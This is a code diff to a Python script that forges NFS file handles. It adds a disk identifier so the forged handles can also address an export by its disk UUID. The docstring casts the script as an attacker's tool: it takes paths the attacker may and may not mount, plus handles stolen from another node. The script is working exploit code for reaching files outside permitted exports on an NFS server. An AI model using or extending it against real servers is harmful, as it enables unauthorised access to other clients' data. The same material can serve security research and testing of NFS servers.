@@ -55,6 +55,7 @@ def handles(told: dict, own: dict[str, bytes], sample: bytes) -> Iterator[tuple[
     """Yield forged handles, each with what it is."""
     inodes, marked = told["inodes"], told["marked"]
     uuids = [bytes.fromhex(one) for one in told["uuids"]]
+    disk = bytes.fromhex(told["disk"])
     parents = [*marked[:2], 2]
     for name, handle in own.items():
         export = export_of(handle)
@@ -80,11 +81,11 @@ def handles(told: dict, own: dict[str, bytes], sample: bytes) -> Iterator[tuple[
     for export in exports:
         if export == export_of(own["persist"]):
             continue  # its own one, by its own name
-        yield f"export {export[0]}", made(export, ROOT)
+        # The kernel takes each name that an export of the client may have: that of the disk, too.
+        what = "persist by its disk" if export[1].endswith(disk) else f"export {export[0]}"
+        yield what, made(export, ROOT)
         for inode in [2, *marked]:
-            yield f"export {export[0]}", made(
-                export, INO32, struct.pack("<II", inode, 0)
-            )
+            yield what, made(export, INO32, struct.pack("<II", inode, 0))
 
 
 def main() -> None:
@@ -92,7 +93,8 @@ def main() -> None:
 
     Read: `source`, `server`, `minor`, `account`; `own`: paths that the attacker may mount by
     name; `sample`: a path inside of an image; `foreign`: paths that it may not; `inodes`,
-    `marked` (of what it wants), `uuids`, `devices`; `stolen`: handles of another node.
+    `marked` (of what it wants), `uuids`, `disk` (the one of its own `persist`), `devices`;
+    `stolen`: handles of another node.
     """
     told = json.load(sys.stdin)
     client = NfsClient(told["server"], told["source"], told["minor"], told["account"])
